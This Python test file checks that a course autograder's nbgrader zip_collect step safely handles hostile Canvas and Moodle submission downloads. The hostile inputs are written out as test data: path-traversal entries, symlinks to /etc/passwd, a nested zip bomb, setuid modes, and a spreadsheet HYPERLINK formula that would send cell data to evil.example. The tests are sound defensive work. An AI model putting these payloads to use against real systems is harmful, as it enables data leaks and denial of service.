"""Hand-made Canvas and Moodle downloads with one hostile or unlucky upload each, collected by
``nbgrader zip_collect`` with the course's configuration: the upload costs its own student at
most (two accounts on one id, or a look-alike of a recorded name, are set aside with a note
while the rest of the class is collected)."""
from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from autograder.pipeline.job import runner
from autograder.pipeline.course import Course, tool_env
from autograder.pipeline.term import feedback
from autograder.pipeline.term.lms.lms import write_gradebook_csv
from autograder.pipeline.demo.scenario import ROOT
from test_lms_plan import JOSE, LOOK_ALIKES
from zips import nested_bomb, zip_bytes

pytestmark = pytest.mark.pipeline
UNIT, NB = "01_setup", "01_setup.ipynb"
MOODLE = "{}_{}_assignsubmission_file_/" + NB


@pytest.fixture
def course(tmp_path, isolated_jupyter) -> Path:
    """A course with the unit released and an empty download folder: all zip_collect needs."""
    root = tmp_path / "course"
    (root / "release" / UNIT).mkdir(parents=True)
    (root / "release" / UNIT / NB).write_text("{}")
    (root / "downloaded" / UNIT / "archive").mkdir(parents=True)
    (root / "nbgrader_config.py").write_bytes((ROOT / "nbgrader_config.py").read_bytes())
    return root


def download(course: Path, entries: dict[str, bytes | tuple[bytes, int]]) -> None:
    """The LMS's zip: entry name → content, or (content, Unix mode with its file type)."""
    (course / "downloaded" / UNIT / "archive" / "submissions.zip").write_bytes(zip_bytes(entries))


def collect(course: Path, *args: str) -> tuple[int, str]:
    return runner.run_captured(["zip_collect", UNIT, "--force", *args], course, tool_env())


def handed_in(course: Path) -> dict[str, bytes]:
    """Student id → the notebook zip_collect put in submitted/."""
    return {p.parent.parent.name: p.read_bytes()
            for p in (course / "submitted").glob(f"*/{UNIT}/{NB}")}


def test_two_canvas_accounts_of_one_name_stay_two_students(course):
    download(course, {f"doejane_1201_90001_{NB}": b"first jane",
                      "doejane_1302_90002_01_setup-1.ipynb": b"second jane"})
    code, log = collect(course)
    assert code == 0, log
    assert handed_in(course) == {"doejane-1201": b"first jane", "doejane-1302": b"second jane"}
    assert "Student id doejane-1302: Canvas 'doejane' (user 1302" in log


def test_two_moodle_students_of_one_name_are_set_aside_and_the_rest_collected(course):
    download(course, {MOODLE.format("Jane Doe", 4411): b"a", MOODLE.format("Jane Doe", 4412): b"b",
                      MOODLE.format("Bob Roe", 4413): b"c"})
    code, log = collect(course)
    assert code == 0, log
    assert handed_in(course) == {"bob-roe": b"c"}
    assert "Moodle 'Jane Doe' (participant 4411, " in log and "2 accounts would be jane-doe (also " \
        "Moodle 'Jane Doe' (participant 4412" in log
    assert "2 account(s) set aside, each listed above" in log


def test_eight_look_alikes_neither_merge_nor_stop_the_class(course):
    download(course, {MOODLE.format(name, 5000 + i): name.encode()
                      for i, name in enumerate(LOOK_ALIKES)} | {MOODLE.format("Bob Roe", 4413): b"c"})
    code, log = collect(course)
    assert code == 0, log
    assert handed_in(course) == {"bob-roe": b"c"}
    assert log.count("8 accounts would be jose-garcia") >= 8


def test_a_look_alike_alone_is_set_aside_not_collected_as_the_student(course):
    download(course, {MOODLE.format(JOSE, 5001): b"jose", MOODLE.format("Bob Roe", 4413): b"bob"})
    assert collect(course)[0] == 0
    for i, name in enumerate(LOOK_ALIKES[1:]):
        download(course, {MOODLE.format(name, 5100 + i): b"impostor",
                          MOODLE.format("Bob Roe", 4414 + i): b"bob again"})
        code, log = collect(course)
        assert code == 0, log
        assert handed_in(course) == {"jose-garcia": b"jose", "bob-roe": b"bob again"}, name
        assert "jose-garcia was Moodle 'José García' in an earlier download" in log
    download(course, {MOODLE.format(JOSE, 5200): b"jose again"})
    assert collect(course)[0] == 0 and handed_in(course)["jose-garcia"] == b"jose again"


def test_a_formula_for_a_name_is_text_in_every_csv(course):
    formula = '=HYPERLINK("evil.example?"&A2,"Jane Doe")'
    download(course, {MOODLE.format(formula, 4411): b"a", MOODLE.format("Bob Roe", 4413): b"b"})
    assert collect(course)[0] == 0
    (course / "source" / UNIT).mkdir(parents=True)
    with Gradebook(Course(course).db_url) as gb:
        gb.add_assignment(UNIT)
        for student in handed_in(course):
            gb.add_student(student, last_name=formula, first_name="@SUM(1+1)")
    tables = {path.name: list(csv.reader(open(path, encoding="utf-8"))) for path in [
        course / "downloaded" / "lms-students.csv", write_gradebook_csv(course),
        feedback.export(course)]}
    cells = [cell for rows in tables.values() for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r")) or
                cell.startswith("-") and not cell[1:].replace(".", "").isdigit()]
    assert {name: sum(cell == "'" + formula for row in rows for cell in row)
            for name, rows in tables.items()} == {"lms-students.csv": 1, "grades-lms.csv": 3,
                                                  "grades.csv": 2}
    assert ["'@SUM(1+1)", "0.0"] == [tables["grades.csv"][1][5], tables["grades.csv"][1][9]]
    code, log = collect(course)      # the name as recorded is that student's next time too
    assert code == 0 and "set aside" not in log and len(handed_in(course)) == 2


def test_a_roster_tells_two_moodle_students_of_one_name_apart(course):
    download(course, {MOODLE.format("Jane Doe", 4411): b"a", MOODLE.format("Jane Doe", 4412): b"b",
                      MOODLE.format("Bob Roe", 4413): b"c"})
    (course / "students.csv").write_text("lms_name,lms_id,student_id\n"
                                         "Jane Doe,4411,jdoe1\nJane Doe,4412,jdoe2\n")
    code, log = collect(course, "--LmsFileNames.roster=students.csv")
    assert code == 0, log
    assert handed_in(course) == {"jdoe1": b"a", "jdoe2": b"b", "bob-roe": b"c"}


def test_an_entry_outside_the_folder_costs_only_that_entry(course):
    download(course, {f"doejane_1201_90001_{NB}": b"jane", f"../roebob_1202_90002_{NB}": b"x",
                      f"/tmp/kimcy_1203_90003_{NB}": b"y"})
    code, log = collect(course)
    assert code == 0, log
    assert handed_in(course) == {"doejane-1201": b"jane"}
    assert f"'../roebob_1202_90002_{NB}': a path outside the archive's folder" in log
    assert not list(course.rglob(f"roebob_*")) and not Path(f"/tmp/kimcy_1203_90003_{NB}").exists()


def test_a_moodle_student_named_dot_dot_stays_inside_submitted(course):
    download(course, {MOODLE.format("..", 4411): b"dots", MOODLE.format("Bob Roe", 4413): b"bob"})
    code, log = collect(course)
    assert code == 0, log
    assert handed_in(course) == {"bob-roe": b"bob"}
    assert not (course / UNIT).exists()
    assert "no letter or digit in '..'" in log


def test_a_nested_zip_bomb_costs_only_its_student(course):
    bomb = nested_bomb(levels=2, copies=4, zeros=8 << 20)   # 128 MiB from a few KiB
    download(course, {f"doejane_1201_90001_{NB}": b"jane", "roebob_1202_90002_hw.zip": bomb})
    code, log = collect(course)
    written = sum(p.stat().st_size for p in course.rglob("*") if p.is_file())
    assert written < 1 << 20
    assert code == 0, log
    assert handed_in(course) == {"doejane-1201": b"jane"}
    assert "Refused while unpacking (each listed above): 4 in submissions.zip/roebob_1202_90002_hw" \
        ".zip;" in log and "'level0-0.zip' not opened: a zip nested deeper than 2 levels" in log


def test_modes_are_masked(course):
    download(course, {f"doejane_1201_90001_{NB}": (b"jane", stat.S_IFREG | 0o6777),
                      "roebob_1202_90002_tools/": (b"", stat.S_IFDIR | 0o1777)})
    code, log = collect(course)
    assert code == 0, log
    extracted = course / "downloaded" / UNIT / "extracted" / "submissions"
    for path in [extracted / f"doejane_1201_90001_{NB}", extracted / "roebob_1202_90002_tools",
                 course / "submitted" / "doejane-1201" / UNIT / NB]:
        mode = path.stat().st_mode
        assert not mode & (stat.S_ISUID | stat.S_ISGID | stat.S_ISVTX | stat.S_IWOTH), \
            (path, oct(mode))


def test_symbolic_links_are_neither_created_nor_followed(course):
    download(course, {f"doejane_1201_90001_{NB}": b"jane",
                      f"roebob_1202_90002_{NB}": (b"/etc/passwd", stat.S_IFLNK | 0o777)})
    os.symlink("/etc/passwd", course / "downloaded" / UNIT / "archive" / f"kimcy_1203_90003_{NB}")
    code, log = collect(course)
    made = [p for p in course.rglob("*") if "archive" not in p.parts]
    secret = Path("/etc/passwd").read_bytes()
    assert not [p for p in made if p.is_symlink() or p.is_file() and p.read_bytes() == secret]
    assert code == 0, log
    assert handed_in(course) == {"doejane-1201": b"jane"}
    assert f"'roebob_1202_90002_{NB}': a symbolic link" in log
    assert f"kimcy_1203_90003_{NB}: not readable" in log


def test_an_accented_canvas_name_gets_an_ascii_id(course):
    download(course, {f"garcíajosé_1302_90005_{NB}": b"jose"})
    code, log = collect(course)
    assert code == 0, log
    assert handed_in(course) == {"garciajose-1302": b"jose"}
    assert "Student id garciajose-1302: Canvas 'garcíajosé' (user 1302" in log


def test_a_canvas_name_inside_an_upload_is_not_another_students_hand_in(course):
    impostor = zip_bytes({"roebob_LATE_1202_90009_01_setup-9.ipynb": b"by jane"})
    download(course, {"doejane_1201_90001_hw.zip": impostor, f"roebob_1202_90002_{NB}": b"bob"})
    code, log = collect(course)
    assert code == 0, log
    assert handed_in(course) == {"roebob-1202": b"bob"}
    assert "inside another upload (doejane_1201_90001_hw)" in log


def test_a_moodle_folder_inside_an_upload_is_not_another_students_hand_in(course):
    nested = "Jane Doe_4411_assignsubmission_file_/Bob Roe_4413_assignsubmission_file_/" + NB
    download(course, {nested: b"by jane", MOODLE.format("Kim Cy", 4415): b"kim"})
    code, log = collect(course)
    assert code == 0, log
    assert handed_in(course) == {"kim-cy": b"kim"}
    assert "inside another upload (Jane Doe_4411_assignsubmission_file_)" in log
